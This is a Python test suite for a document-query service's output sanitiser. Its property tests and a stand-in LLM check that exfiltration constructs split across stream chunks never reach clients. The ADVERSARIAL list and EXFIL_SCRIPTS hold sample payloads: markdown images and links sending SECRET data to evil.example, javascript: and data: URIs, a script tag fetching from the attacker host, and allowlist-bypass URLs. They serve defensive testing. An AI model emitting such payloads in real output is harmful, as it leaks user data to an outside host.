"""Output sanitising: a property test over split streams, and the stand-in LLM trying to exfiltrate.

The stand-in (not vLLM; tests/support/standins/openai_server.py) emits exfiltration
markdown split across stream chunks at awkward places. The client must
receive none of it, in /v1/query (JSON and SSE) and the chat facade (JSON
and stream).
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from docquery.rag.sanitize import Sanitizer, StreamSanitizer
from tests.api.conftest import Harness, JwtIssuer, bearer, chat_stream_text, llm_generator, make_harness, sse_events
from tests.support.standins.openai_server import StandInOpenAIServer

ADVERSARIAL = [
    "![logo](https://evil.example/c?d=SECRET)",
    "![x][r1]",
    "![shortcut]",
    "\n[r1]: https://evil.example/p?q=SECRET\n",
    "[click](https://evil.example/?q=SECRET)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt :alert(1))",
    "![a](data:image/png;base64,U0VDUkVU)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "<img src=https://evil.example/x.png>",
    "<script>fetch('//evil.example')</script>",
    "<https://evil.example/auto>",
    "https://evil.example/path?SECRET",
    "//evil.example/pr",
    "www.evil.example/x",
    "[ok](https://docs.example.com/a)",
    "https://docs.example.com\\.evil.example/x",
    "https://docs.example.com@evil.example/x",
    "![",
    "](",
    "!",
    "[",
    "]",
    "(",
    ")",
    "<",
    ">",
    "\n",
    " ",
]
BENIGN = ["The", "policy", "says", "25", "days", "[S1]", ".", ",", "and", "leave"]

fragments = st.lists(st.sampled_from(ADVERSARIAL + BENIGN), min_size=1, max_size=25)


def _split(text: str, cuts: list[int]) -> list[str]:
    points = sorted({c % (len(text) + 1) for c in cuts})
    pieces, last = [], 0
    for p in points:
        pieces.append(text[last:p])
        last = p
    pieces.append(text[last:])
    return pieces


def _stream(text: str, cuts: list[int], allow: tuple[str, ...] = ()) -> str:
    s = StreamSanitizer(Sanitizer(allow))
    return "".join(s.feed(piece) for piece in _split(text, cuts)) + s.flush()


_ANY_URL = re.compile(r"(?i)\b[a-z][a-z0-9+.-]*://[^\s)\]>\"']*|(?<![\w/])//[^\s)\]>\"']+|\bwww\.[^\s)\]>\"']+")


def assert_safe(out: str, allowed_hosts: tuple[str, ...] = ()) -> None:
    assert "<" not in out
    assert not re.search(r"!\s*\[", out), out
    assert not re.search(r"(?i)javascript\s*:|vbscript\s*:|\bdata:[a-z]", out), out
    for m in _ANY_URL.finditer(out):
        url = m.group(0)
        host = re.sub(r"^(?i:[a-z][a-z0-9+.-]*:)?//|^www\.", "", url).split("/")[0].lower()
        assert allowed_hosts and any(host == a or host.endswith("." + a) for a in allowed_hosts), url
        assert "\\" not in url and "@" not in url.split("/")[2 if "://" in url else 0]


@settings(max_examples=300, deadline=None, database=None)
@given(parts=fragments, cuts=st.lists(st.integers(min_value=0, max_value=10_000), max_size=12))
def test_stream_sanitizer_never_releases_a_construct(parts: list[str], cuts: list[int]) -> None:
    text = "".join(parts)
    assert_safe(_stream(text, cuts))
    assert_safe(Sanitizer()(text))


@settings(max_examples=200, deadline=None, database=None)
@given(parts=fragments, cuts=st.lists(st.integers(min_value=0, max_value=10_000), max_size=12))
def test_allowlisted_host_only(parts: list[str], cuts: list[int]) -> None:
    allow = ("docs.example.com",)
    assert_safe(_stream("".join(parts), cuts, allow), allow)


@settings(max_examples=100, deadline=None, database=None)
@given(
    text=st.text(alphabet=st.characters(blacklist_characters="[]()<>!:/\\@", blacklist_categories=("Cs",))),
    cuts=st.lists(st.integers(min_value=0, max_value=10_000), max_size=8),
)
def test_plain_text_passes_unchanged(text: str, cuts: list[int]) -> None:
    assert _stream(text, cuts) == text


def test_never_closed_bracket_cannot_stall_or_smuggle() -> None:
    s = StreamSanitizer(Sanitizer())
    out = s.feed("[" + "a" * 5000) + s.feed("](https://evil.example/x)") + s.flush()
    assert "evil.example" not in out
    s = StreamSanitizer(Sanitizer(["ok.example"]))
    # A whitespace-free run past the bound is dropped whole, with the rest of that run.
    out = s.feed("x" * 5000 + "https://ok.example") + s.feed(".evil.example/x more") + s.flush()
    assert "evil.example" not in out and out.endswith(" more")


def test_allowlist_rejects_backslash_and_userinfo_tricks() -> None:
    san = Sanitizer(["ok.example"])
    assert san.host_allowed("https://ok.example/a")
    assert san.host_allowed("https://sub.ok.example/a")
    for url in [
        "https://evil.example\\.ok.example/",
        "https://ok.example@evil.example/",
        "https://evil.example%2eok.example/",
        "javascript://ok.example/%0aalert(1)",
        "https://ok.example.evil.example/",
    ]:
        assert not san.host_allowed(url), url


# -- through the service, with the stand-in LLM -------------------------------------

EXFIL_SCRIPTS = {
    "inline-image": ["The policy gives 25 days [S1]. ", "![lo", "go](https://ev", "il.example/c?d=SECRET", "DATA) ok."],
    "reference-image": ["See ![x][", "r1] now.", "\n\n[r1]: https://evil", ".example/p?q=SECRETDATA\n"],
    "raw-html": ["Answer [S1]. <im", "g src=https://evil.example/?SECRETDATA", ">"],
    "link": ["Read [here](ht", "tps://evil.example/?SECRETDATA) [S1]."],
    "javascript": ["[x](javas", "cript:alert('SECRETDATA'))"],
    "data-uri": ["![a](data:image/png;base64,", "U0VDUkVUREFUQQ==)"],
    "bare-url": ["visit https://evil.", "example/SECRETDATA now"],
    "protocol-relative": ["![a](//evil.exa", "mple/SECRETDATA)"],
}


@pytest.fixture(scope="module")
def standin_module() -> Iterator[StandInOpenAIServer]:
    with StandInOpenAIServer() as server:
        yield server


@pytest.fixture(scope="module")
def llm_harness(
    tmp_path_factory: pytest.TempPathFactory, jwt_issuer: JwtIssuer, standin_module: StandInOpenAIServer
) -> Iterator[Harness]:
    tmp: Path = tmp_path_factory.mktemp("sanitize")
    for h in make_harness(tmp, generator=llm_generator(standin_module), jwks=jwt_issuer.jwks()):
        h.corpus.add("vac", ["The vacation policy grants 25 days of paid leave per year."], ["eng"])
        yield h


def _assert_clean(text: str) -> None:
    assert "evil" not in text.lower()
    assert "SECRETDATA" not in text and "U0VDUkVUREFUQQ" not in text
    assert_safe(text)


@pytest.mark.parametrize("script", sorted(EXFIL_SCRIPTS))
def test_exfiltration_is_neutralised_in_every_mode(
    llm_harness: Harness, standin_module: StandInOpenAIServer, script: str
) -> None:
    standin_module.config.reply = EXFIL_SCRIPTS[script]
    auth = bearer("tok-alice-eng")
    q = {"question": "how many vacation days"}

    r = llm_harness.client.post("/v1/query", json=q, headers=auth)
    assert r.status_code == 200 and r.json()["mode"] == "generative"
    _assert_clean(r.json()["answer"])

    r = llm_harness.client.post("/v1/query", json={**q, "stream": True}, headers=auth)
    assert r.status_code == 200
    events = sse_events(r.text)
    assert events[0][0] == "citations" and events[-1][0] == "done"
    _assert_clean("".join(d["text"] for e, d in events if e == "delta"))

    chat = {"model": "docquery", "messages": [{"role": "user", "content": q["question"]}]}
    r = llm_harness.client.post("/v1/chat/completions", json=chat, headers=auth)
    assert r.status_code == 200
    _assert_clean(r.json()["choices"][0]["message"]["content"])

    r = llm_harness.client.post("/v1/chat/completions", json={**chat, "stream": True}, headers=auth)
    assert r.status_code == 200 and r.text.rstrip().endswith("data: [DONE]")
    text, _ = chat_stream_text(r.text)
    _assert_clean(text)


def test_document_titles_in_listings_and_citations_are_sanitised(harness: Harness) -> None:
    # Titles come from documents, so an injected title is an exfiltration channel too.
    title = "Policy ![t](https://evil.example/t.png?d=SECRET) <img src=x>"
    harness.corpus.add("titled", ["expense policy for travel claims"], ["eng"], title=title)
    listed = harness.client.get("/v1/documents", headers=bearer("tok-alice-eng")).json()["documents"]
    search = harness.client.post(
        "/v1/search", json={"query": "expense policy travel"}, headers=bearer("tok-alice-eng")
    ).json()
    titles = [d["title"] for d in listed] + [c["title"] for c in search["citations"]]
    assert titles, "the document is visible to its group"
    for shown in titles:
        assert "evil.example" not in shown and "<img" not in shown
